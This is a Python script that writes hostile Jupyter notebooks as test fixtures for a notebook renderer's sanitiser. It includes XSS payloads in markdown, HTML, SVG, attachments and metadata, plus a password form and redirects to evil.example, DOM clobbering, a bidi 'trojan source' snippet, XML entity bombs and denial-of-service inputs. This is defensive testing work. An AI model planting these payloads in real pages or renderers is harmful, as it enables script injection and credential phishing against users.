"""Writes tests/data/notebooks/hostile: notebooks that attack, break or stall, one family each.

`python -m tests.data.make_hostile_notebooks`. What must become of each, and how a stock rendering fails on it (one of
each family at least), is in `FAMILIES`; tests/training/test_hostile_notebooks.py and
tests/browser/test_notebooks_in_browser.py hold them to it.
"""

from __future__ import annotations

import base64
import json
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.factories.notebooks import DATA, PIXEL, code, failed, markdown, notebook, printed, shown

FOLDER = DATA / "hostile"
MARK = "(window.MARK||parent.MARK)()"
DRAWN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'


@dataclass(frozen=True)
class Case:
    """A notebook, what must become of it, and the control: what nbconvert's stock rendering does with it.

    `inline runs` is a viewer that puts drawings into its page as they are, as JupyterLab and older nbconverts do.
    """

    make: Callable[[], bytes]
    refused: str = ""  # words of the refusal; empty means: shown, with nothing active in it
    warns: str = ""  # words among the warnings
    keeps: str = "Kept"  # words of the lesson that survive
    control: str = ""  # what a stock rendering does: runs, inline runs, crashes, slow, or keeps:… in its HTML


def kept(*cells: dict[str, Any], **metadata: Any) -> bytes:
    return notebook(markdown("# Kept"), *cells, **metadata)


def changed(source: bytes, **fields: Any) -> bytes:
    return json.dumps(json.loads(source) | fields).encode()


def html(text: str) -> Callable[[], bytes]:
    return lambda: kept(code("show()", shown(text_html=text)))


def svg(inside: str, attributes: str = "") -> Callable[[], bytes]:
    drawing = DRAWN.replace("<svg", f"<svg {attributes}") + inside + "</svg>"
    return lambda: kept(code("draw()", shown({"alt": "A drawing"}, image_svg=drawing)))


def data_svg(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def huge_png() -> str:
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", len(head)) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + chunk).decode()


def widgets() -> bytes:
    state = {"state": {"a": {"model_name": f"</script><script>{MARK}</script>"}}, "version_major": 2}
    view = {"application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2}, "text/plain": "Slider()"}
    return kept(code("slider", {**shown(), "data": view}), widgets={"application/vnd.jupyter.widget-state+json": state})


def surrogate() -> bytes:
    return kept(markdown("half \ud83d and \udc00 alone"), code("print('\ud800')", printed("\udfff")))


def double_ids() -> bytes:
    cells = [
        markdown("# Kept", id="same"),
        markdown(f'<a id="main">x</a><img id=main src=x onerror="{MARK}">', id="same"),
    ]
    return notebook(*cells)


FAMILIES: dict[str, dict[str, Case]] = {
    "scripts in text": {
        "markdown_script": Case(lambda: kept(markdown(f"words <script>{MARK}</script> words")), control="runs"),
        "markdown_handler": Case(
            lambda: kept(markdown(f'<img src=x onerror="{MARK}"> <details open ontoggle="{MARK}">x')), control="runs"
        ),
        "markdown_javascript_link": Case(
            lambda: kept(markdown(f'<a href="javascript:{MARK}">press</a>')), control="runs"
        ),
        "markdown_coded_link": Case(
            lambda: kept(markdown(f'<a href="jav&#x09;ascript&colon;{MARK}">press</a>')), control="runs"
        ),
        "markdown_math_breaks_out": Case(lambda: kept(markdown(f"$$x</script><img src=x onerror={MARK}>$$"))),
        "raw_html_cell": Case(
            lambda: kept(
                {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": f"<script>{MARK}</script>"}
            ),
            warns="raw cells are not shown",
        ),
    },
    "scripts in outputs": {
        "html_script": Case(html(f"<script>{MARK}</script><p>after</p>"), control="runs"),
        "html_iframe": Case(html('<iframe srcdoc="<script>parent.MARK()</script>"></iframe>'), control="runs"),
        "html_focus": Case(
            html(f'<input autofocus onfocus="{MARK}"><p tabindex=1 onfocus="{MARK}">x</p>'), control="runs"
        ),
        "html_form": Case(
            html('<form action="https://evil.example"><input name=password><button>Sign in</button></form>'),
            control="keeps:<form",
        ),
        "html_data_link": Case(
            html(f'<a href="data:text/html,<script>{MARK}</script>">press</a>'), control="keeps:data:text/html"
        ),
        "html_meta_refresh": Case(
            html('<meta http-equiv="refresh" content="0; url=https://evil.example">'), control="keeps:http-equiv"
        ),
        "html_base": Case(html('<base href="https://evil.example/"><a href="x">x</a>'), control="keeps:<base"),
        "html_style": Case(
            html(
                "<style>main { display: none } body { background: url(https://evil.example/seen) }</style>"
                '<p style="position: fixed; inset: 0; background: red">You are signed out</p>'
            ),
            control="keeps:display: none",
        ),
        "html_clobbers_names": Case(
            html('<form id="main"><input name="cookie"></form><a id="csrfmiddlewaretoken">x</a>'),
            control='keeps:name="cookie"',
        ),
        "html_nests_without_end": Case(
            html("<div>" * 5_000),
            refused="Cell 2 (code cell 1): the HTML opens too many",
            control="keeps:<div><div><div>",
        ),
        "html_giant_table": Case(
            html("<table>" + "<tr><td>1<td>2" * 14_000 + "</table>"), refused="30,000 elements", control="slow"
        ),
        "html_wild_spans": Case(
            html(f'<table><tr><td rowspan="65534" colspan="1000">a<img src=x onerror="{MARK}"></table>'), control="runs"
        ),
        "html_closes_the_page": Case(
            html(f"</div></div></article></main><script>{MARK}</script><main>"), control="runs"
        ),
        "script_output": Case(
            lambda: kept(code("run()", shown(application_javascript=MARK))),
            warns="a script is not shown",
            control="keeps:text/javascript",
        ),
        "mermaid_output": Case(
            lambda: kept(
                code(
                    "draw()",
                    {**shown(), "data": {"text/vnd.mermaid": f"graph LR\nA-->B[\"<img src=x onerror='{MARK}'>\"]"}},
                )
            ),
            warns="a diagram is not shown",
            control="keeps:graph LR",
        ),
        "widget_state": Case(widgets, warns="an interactive widget is not shown", control='keeps:"model_id": "a"'),
        "image_width": Case(
            lambda: kept(
                code("plot()", shown({"image/png": {"alt": "A dot", "width": f"1 onload={MARK}"}}, image_png=PIXEL))
            ),
            control="runs",
        ),
        "image_alt": Case(
            lambda: kept(
                code("plot()", shown({"image/png": {"alt": f'"><img src=x onerror={MARK}>'}}, image_png=PIXEL))
            )
        ),
        "error_output": Case(
            lambda: kept(code("1/0", failed(f"<script>{MARK}</script>", "x", f"<script>{MARK}</script>")))
        ),
    },
    "drawings": {
        "svg_script": Case(svg(f"<script>{MARK}</script>"), control="inline runs"),
        "svg_handler": Case(svg("<rect width='9' height='9'/>", f'onload="{MARK}"'), control="inline runs"),
        "svg_foreign_object": Case(
            svg(
                '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" '
                f'onerror="{MARK}"/></foreignObject>'
            ),
            control="inline runs",
        ),
        "svg_animates_link": Case(
            svg(f'<a><animate attributeName="href" values="javascript:{MARK}"/><rect width="9" height="9"/></a>'),
            control="keeps:attributeName",
        ),
        "svg_link": Case(svg(f'<a xlink:href="javascript:{MARK}"><text y="9">press</text></a>'), control="inline runs"),
        "svg_uses_elsewhere": Case(
            svg('<use xlink:href="https://evil.example/a.svg#x"/><image href="https://evil.example/seen"/>'),
            control="keeps:evil.example",
        ),
        "svg_entities": Case(
            lambda: kept(
                code(
                    "draw()",
                    shown(
                        image_svg='<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
                        + DRAWN
                        + "<text>&b;</text></svg>"
                    ),
                )
            ),
            warns="is not an SVG drawing that can be shown",
            control="keeps:ENTITY",
        ),
        "svg_nests_without_end": Case(
            svg("<g>" * 20_000 + "</g>" * 20_000),
            warns="is not an SVG drawing that can be shown",
            control="keeps:<g><g><g>",
        ),
    },
    "pictures and attachments": {
        "attachment_lies": Case(
            lambda: kept(
                markdown(
                    "![A dot](attachment:a.png)",
                    attachments={"a.png": {"image/png": data_svg(f"<script>{MARK}</script>")}},
                )
            ),
            warns="Cell 2: the picture “A dot” is not a PNG, JPEG, GIF or WebP picture.",
            control="keeps:data:image/png",
        ),
        "attachment_kind_breaks_out": Case(
            lambda: kept(
                markdown(
                    "![A dot](attachment:a.png)", attachments={"a.png": {f'image/png" onerror="{MARK}" x="': PIXEL}}
                )
            ),
            warns="Cell 2: the picture “A dot”",
            control="keeps:onerror",
        ),
        "attachment_missing": Case(
            lambda: kept(markdown("![A map](attachment:map.png)")),
            warns="Cell 2: the picture “A map” is not among the attachments",
            control="crashes",
        ),
        "picture_garbage": Case(
            lambda: kept(code("plot()", shown(image_png="%%% no base64 %%%"))),
            warns="Cell 2 (code cell 1): the picture is damaged",
            control="keeps:%%% no base64",
        ),
        "picture_huge": Case(
            lambda: kept(code("plot()", shown(image_png=huge_png()))),
            warns="more than 40 million pixels",
            control="keeps:data:image/png",
        ),
        "picture_elsewhere": Case(
            lambda: kept(markdown("![Seen](https://evil.example/seen.png)")),
            warns="Cell 2: the picture “Seen” is on another site",
            control="keeps:evil.example",
        ),
    },
    "formulas, characters, terminals": {
        "tex_bomb": Case(
            lambda: kept(markdown("$$\\def\\a{\\a\\a}\\a" + "\\a" * 300 + "$$")),
            warns="Cell 2: a formula could not be read",
            control="keeps:\\def",
        ),
        "tex_nests_without_end": Case(
            lambda: kept(markdown("$$" + "\\sqrt{" * 150 + "x" + "}" * 150 + "$$")),
            warns="Cell 2: a formula could not be read",
            control="keeps:\\sqrt{\\sqrt{",
        ),
        "tex_link": Case(
            lambda: kept(markdown(f"$\\href{{javascript:{MARK}}}{{press}}$")), control="keeps:javascript:"
        ),
        "text_turns_round": Case(
            lambda: kept(code("if role != 'admin\u202e \u2066# for readers\u2069 \u2066':\n    open()")),
            warns="characters that turn the direction",
            control="keeps:\u202e",
        ),
        "terminal_sequences": Case(
            lambda: kept(code("run()", printed("\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x1b[2J\x00\x07"))),
            control="keeps:\x1b]8;;",
        ),
        "lone_surrogates": Case(surrogate, control="crashes"),
        "metadata_breaks_out": Case(
            lambda: kept(
                code("x = 1"),
                title=f"</title><script>{MARK}</script>",
                language_info={"name": f'x"><script>{MARK}</script>'},
            )
        ),
    },
    "the format": {
        "double_ids": Case(double_ids, control="runs"),
        "json_nests_without_end": Case(
            lambda: b'{"cells":' + b"[" * 50_000, refused="nested more than 60 levels deep (line 1)", control="crashes"
        ),
        "json_cut_off": Case(lambda: kept()[:60] + b"\n", refused="at line", control="crashes"),
        "json_other_bytes": Case(lambda: b"PK\x03\x04\xff\xfe", refused="not UTF-8 text (line 1)", control="crashes"),
        "source_is_no_text": Case(
            lambda: kept({"cell_type": "markdown", "metadata": {}, "source": {"a": 1}}),
            refused="Cell 2 does not follow the notebook format",
            control="crashes",
        ),
        "outputs_missing": Case(
            lambda: kept({"cell_type": "code", "metadata": {}, "source": "1", "execution_count": 1}),
            refused="Cell 2 does not follow the notebook format",
            control="crashes",
        ),
        "format_of_the_future": Case(lambda: changed(kept(), nbformat=99), refused="format 99", control="crashes"),
        "format_is_text": Case(
            lambda: changed(kept(), nbformat="4"), refused="which notebook format", control="crashes"
        ),
    },
    "text that takes long": {
        "markdown_quotes_without_end": Case(lambda: kept(markdown("> " * 9_000 + "x"))),
        "markdown_brackets": Case(lambda: kept(markdown("[" * 19_000)), control="slow"),
        "markdown_emphasis": Case(lambda: kept(markdown("*a **b " * 2_800))),
        "code_without_end": Case(lambda: kept(code("a.b(" * 4_900))),
        "prints_without_end": Case(
            lambda: kept(code("loop()", printed("\x1b[31m<" * 9_000))), warns="is cut off there"
        ),
        "outputs_without_end": Case(
            lambda: kept(code("loop()", *[shown(text_plain="x")] * 60)), refused="Cell 2 has 60 outputs"
        ),
        "cells_without_end": Case(lambda: notebook(*[markdown("x")] * 501), refused="501 cells; 500 is the most"),
    },
}
CASES = {name: case for family in FAMILIES.values() for name, case in family.items()}


def main() -> None:
    FOLDER.mkdir(exist_ok=True)
    for old in FOLDER.glob("*.ipynb"):
        old.unlink()
    for name, case in CASES.items():
        (FOLDER / f"{name}.ipynb").write_bytes(case.make())
    print(f"{len(CASES)} notebooks in {Path(FOLDER).name}")


if __name__ == "__main__":
    main()
